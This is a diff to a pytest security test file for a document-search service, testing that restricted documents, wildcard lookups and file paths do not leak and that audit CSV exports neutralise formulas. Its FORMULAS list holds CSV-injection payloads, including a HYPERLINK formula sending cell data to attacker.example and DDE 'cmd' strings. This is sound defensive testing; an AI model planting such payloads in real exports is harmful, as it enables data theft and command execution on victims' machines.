@@ -1,16 +1,23 @@
 """Access control: a restricted document holding a unique canary phrase must not leak through any path."""
 
+import csv
+import io
+import itertools
 import json
+import os
 import subprocess
 import sys
+from pathlib import Path
+from urllib.parse import quote
 
 import pytest
-from fastapi.testclient import TestClient
+from helpers.server import local_client
 from helpers.sse import parse_events
 
 from evidence_bot import EvidenceBot, Settings
 from evidence_bot.access import TokenStore, Viewer
 from evidence_bot.audit import AuditLog
+from evidence_bot.ingest import document_id
 from evidence_bot.server import create_app
 
 CANARY = "quokka ledger 7731"
@@ -49,6 +56,7 @@ def secured(tmp_path_factory, embedder):
         encoding="utf-8")
     (corpus / "hr-note.txt").write_text(
         "Casework note\n\nThe wombat register 5512 lists 3 safeguarding allegations against staff.\n", encoding="utf-8")
+    (corpus / twin_name(corpus)).write_text("Library note\n\nThe library opens at nine on weekdays.\n", encoding="utf-8")
     bot = EvidenceBot(Settings(index_dir=tmp_path_factory.mktemp("secured-index")), embedder=embedder)
     report = bot.ingest([corpus])
     assert report.ok, report.failed
@@ -58,8 +66,16 @@ def secured(tmp_path_factory, embedder):
     revoked_id, revoked = store.create("a leaver", "reader", [])
     store.revoke(revoked_id)
     tokens["revoked"] = revoked
-    with TestClient(create_app(bot=bot)) as client:
+    with local_client(create_app(bot=bot)) as client:
         yield client, tokens, bot
+
+
+def twin_name(corpus) -> str:
+    """A file name whose document id starts like the restricted document's: an internal document a reader may see
+    whose id shares its first three characters with one they may not."""
+    hidden = document_id((corpus / "exempt-minutes.txt").resolve())
+    return next(name for name in (f"library-note-{n}.txt" for n in itertools.count())
+                if document_id((corpus / name).resolve())[:3] == hidden[:3])
 
 
 def json_string(text: str) -> str:
@@ -205,7 +221,7 @@ def test_audit_retention_deletes_old_events(tmp_path):
 def test_rate_limits_are_per_token_with_retry_after(tmp_path, embedder, secured):
     _, _, secured_bot = secured
     bot = EvidenceBot(Settings(index_dir=secured_bot.settings.index_dir, rate_limit="3/minute"), embedder=embedder)
-    with TestClient(create_app(bot=bot)) as client:
+    with local_client(create_app(bot=bot)) as client:
         store = TokenStore(bot.settings.access_path)
         first, second = (store.create(name, "reader", [])[1] for name in ("busy script", "colleague"))
         busy = {"Authorization": f"Bearer {first}"}
@@ -225,5 +241,92 @@ def test_revoking_every_token_on_a_network_address_closes_the_service(tmp_path, 
     refuse_open_network(settings, "0.0.0.0")  # what `serve --host 0.0.0.0` does with a token issued
     assert settings.require_authentication
     store.revoke(token_id)
-    with TestClient(create_app(bot=EvidenceBot(settings, embedder=embedder))) as client:
+    with local_client(create_app(bot=EvidenceBot(settings, embedder=embedder))) as client:
         assert client.get("/api/documents").status_code == 401  # not opened up by the last revocation
+
+
+def cli(bot, *args) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "evidence_bot.cli", "--index", str(bot.settings.index_dir), *args],
+                          capture_output=True, text=True, timeout=120)
+
+
+def test_a_document_prefix_resolves_among_the_documents_the_viewer_may_read(secured):
+    client, tokens, bot = secured
+    reader, admin = as_(tokens, "reader"), as_(tokens, "admin")
+    hidden, _ = restricted_passage_ids(bot)
+    twin = next(r["doc_id"] for r in bot.catalog.documents() if r["doc_id"] != hidden and r["doc_id"][:3] == hidden[:3])
+    shared = hidden[:len(os.path.commonprefix([hidden, twin]))]
+    # A prefix both share is the reader's one document, exactly as if the hidden one did not exist.
+    assert client.get(f"/api/documents/{shared}", headers=reader).json()["doc_id"] == twin
+    assert client.get(f"/api/documents/{shared}", headers=admin).status_code == 404  # ambiguous for an admin
+    # The hidden id's own prefix: the same 404 as a prefix of nothing.
+    own = hidden[:len(shared) + 1]
+    nothing = next(shared + c for c in "0123456789abcdef" if not any(
+        r["doc_id"].startswith(shared + c) for r in bot.catalog.documents()))
+    hidden_reply, missing_reply = (client.get(f"/api/documents/{key}", headers=reader) for key in (own, nothing))
+    assert hidden_reply.status_code == missing_reply.status_code == 404
+    assert hidden_reply.json()["detail"].replace(own, "KEY") == missing_reply.json()["detail"].replace(nothing, "KEY")
+    assert client.get(f"/api/documents/{own}", headers=admin).json()["doc_id"] == hidden
+    # LIKE's wildcards are characters, not patterns, for everyone.
+    for pattern in ("_" + hidden[1:], hidden[:4] + "%", "%", "_" * 12, hidden[:4] + "_"):
+        for headers in (reader, admin):
+            assert client.get(f"/api/documents/{quote(pattern)}", headers=headers).status_code == 404, pattern
+
+
+def test_docs_remove_does_not_take_a_wildcard(secured):
+    _, _, bot = secured
+    hidden, _ = restricted_passage_ids(bot)
+    removed = cli(bot, "docs", "remove", "_" + hidden[1:])
+    assert removed.returncode == 3 and "no document" in removed.stderr
+    assert bot.catalog.find_document(hidden) is not None
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def spreadsheet_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def assert_no_formula(cells: list[str], sent: list[str]) -> None:
+    """OWASP's CSV injection advice: a cell that starts with = + - @ tab or CR is prefixed with a single quote."""
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    for text in sent:
+        assert "'" + text in cells, text
+
+
+def test_the_audit_exports_neutralise_spreadsheet_formulas(secured):
+    client, tokens, bot = secured
+    for text in FORMULAS:
+        client.get("/api/search", params={"q": text}, headers=as_(tokens, "hr"))
+    over_http = client.get("/api/audit", params={"format": "csv", "who": "hr officer"}, headers=as_(tokens, "admin"))
+    from_cli = subprocess.run([sys.executable, "-m", "evidence_bot.cli", "--index", str(bot.settings.index_dir), "audit",
+                               "export", "--who", "hr officer"], capture_output=True, timeout=120, check=True)
+    for text in (over_http.text, from_cli.stdout.decode()):  # bytes: text mode would turn the CR into a newline
+        assert_no_formula(spreadsheet_cells(text), FORMULAS)
+
+
+def test_readers_see_no_absolute_paths_admins_do(secured):
+    client, tokens, bot = secured
+    reader, admin = as_(tokens, "reader"), as_(tokens, "admin")
+    folder = str(Path(bot.catalog.documents()[0]["path"]).parent)
+    listed = client.get("/api/documents", headers=reader).json()["documents"]
+    assert listed and all(d["path"] == Path(d["path"]).name for d in listed)
+    public = next(d["doc_id"] for d in listed if d["access"] == "public")
+    question = "How many safeguarding concerns were received in 2024?"
+    answer = client.post("/api/chat", json={"question": question}, headers=reader).json()
+    responses = [client.get("/api/documents", headers=reader), client.get(f"/api/documents/{public}", headers=reader),
+                 client.get("/api/search", params={"q": "safeguarding concerns"}, headers=reader),
+                 client.get(f"/api/passages/{answer['citations'][0]['passage_id']}", headers=reader),
+                 client.post("/api/chat/stream", json={"question": question}, headers=reader),
+                 client.post("/v1/chat/completions", headers=reader, json={
+                     "model": "evidence-bot", "messages": [{"role": "user", "content": question}]}),
+                 client.get("/api/gaps", headers=reader), client.get("/api/claims", headers=reader),
+                 client.get("/api/brief", params={"topic": "safeguarding concerns"}, headers=reader)]
+    for response in responses:
+        assert response.status_code == 200 and json_string(folder) not in response.text, response.url
+    assert json_string(folder) not in json.dumps(answer)
+    full = client.get("/api/documents", headers=admin).json()["documents"]
+    assert all(Path(d["path"]).is_absolute() and d["path"].startswith(folder) for d in full)
